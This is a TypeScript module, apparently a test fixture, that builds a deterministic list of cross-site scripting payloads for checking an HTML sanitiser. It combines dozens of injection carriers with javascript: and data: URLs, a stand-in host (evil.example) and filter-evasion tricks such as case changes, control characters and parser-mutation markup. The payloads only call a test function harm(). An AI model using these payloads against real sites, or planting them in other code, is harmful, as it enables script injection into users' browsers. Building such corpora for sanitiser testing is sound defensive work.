/** Markup that calls `harm()` unless it is sanitised. `URL` is replaced by an address, `CODE` by a script. */
const CARRIERS = [
  '<script>CODE</script>',
  '<script src="URL"></script>',
  '<script type=module>CODE</script>',
  '<img src=x onerror=CODE>',
  '<img src=x: onerror="CODE" alt="">',
  '<image href=x onerror=CODE>',
  '<svg onload=CODE>',
  '<svg><script>CODE</script></svg>',
  '<svg><a xlink:href="URL"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>CODE</script></svg>#x">',
  '<math><a xlink:href="URL">x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
  '<iframe src="URL"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.CODE&lt;/script&gt;"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<a href="URL">x</a>',
  '<a href="/slot" onclick=CODE>x</a>',
  '<a href="/slot" id=config name=environment onfocus=CODE autofocus tabindex=1>x</a>',
  '<form action="URL"><input name=parentNode><button formaction="URL">x</button></form>',
  '<form id=document><input name=cookie><input name=attributes onfocus=CODE autofocus></form>',
  '<details open ontoggle=CODE><summary>x</summary></details>',
  '<video autoplay onloadstart=CODE><source onerror=CODE></video>',
  '<audio src onerror=CODE>',
  '<body onload=CODE>',
  '<marquee onstart=CODE>x</marquee>',
  '<select onfocus=CODE autofocus></select>',
  '<input onfocus=CODE autofocus>',
  '<p onmouseover=CODE onpointerenter=CODE>x</p>',
  '<p style="animation-name:x" onanimationstart=CODE>x</p>',
  '<style>@import "URL";*{background:url("URL")}</style>',
  '<link rel=stylesheet href="URL">',
  '<base href="URL">',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<template><img src=x onerror=CODE></template>',
  '<title><img src=x onerror=CODE></title>',
  '<textarea><img src=x onerror=CODE></textarea><script>CODE</script>',
  '<xmp><p title="</xmp><img src=x onerror=CODE>">',
  '<table background="URL"><td background="URL">x</table>',
  '<x-widget onclick=CODE></x-widget><bnw-login onclick=CODE></bnw-login>',
  '<div popover id=harm onbeforetoggle=CODE>x</div><button popovertarget=harm>x</button>',
  '"><img src=x onerror=CODE>',
  "'><svg onload=CODE>",
  '</script><script>CODE</script>',
  '--><img src=x onerror=CODE>',
  ']]><img src=x onerror=CODE>',
  '${CODE}{{CODE}}<%= CODE %>',
  'URL'
]

const SCRIPTS = ['harm()', 'window.harm()', 'top.harm()', "globalThis['harm']()", 'harm`1`']

const ADDRESSES = [
  'javascript:CODE',
  'JaVa\tScRiPt:CODE',
  'data:text/html,<script>CODE</script>',
  '//evil.example/x'
]

/** Ways to get past a filter that matches text instead of parsing it. */
const DISGUISES: ((markup: string) => string)[] = [
  markup => markup,
  markup => markup.replace(/<(\w+)/g, (_all, name: string) => `<${name.toUpperCase()}`),
  markup => markup.replace(/ (on\w+)=/g, '/$1\n='),
  markup => `<b>${markup}`,
  markup => `<table><tr>${markup}`,
  markup => `<svg><desc>${markup}`,
  markup => `<!-- > -->${markup}<!--`,
  markup => markup.replace(/<\/?script/gi, match => `${match}\u000c`),
  markup => `\u202e\u0000${markup}`,
  markup => `<div title='${markup.replaceAll("'", '&#39;')}'>${markup}</div>`
]

/**
 * Different hostile texts, deterministic. Unless sanitised, each calls the global `harm()`, when it is inserted or when
 * the player interacts with it. The first 50 have each carrier once, and all scripts, addresses and disguises.
 *
 * @param count At most about 2,000; throws if there are not so many.
 */
export function hostileMarkup(count: number): string[] {
  const all = new Set<string>()
  for (let round = 0; round < DISGUISES.length * SCRIPTS.length; round++)
    for (const [at, carrier] of CARRIERS.entries()) {
      const script = SCRIPTS[(Math.floor(round / DISGUISES.length) + at) % SCRIPTS.length]!
      const address = ADDRESSES[(round + at) % ADDRESSES.length]!
      const disguise = DISGUISES[(round + at) % DISGUISES.length]!
      all.add(disguise(carrier.replaceAll('URL', address).replaceAll('CODE', script)))
    }
  if (all.size < count) throw new Error(`There are but ${all.size} texts.`)
  return [...all].slice(0, count)
}
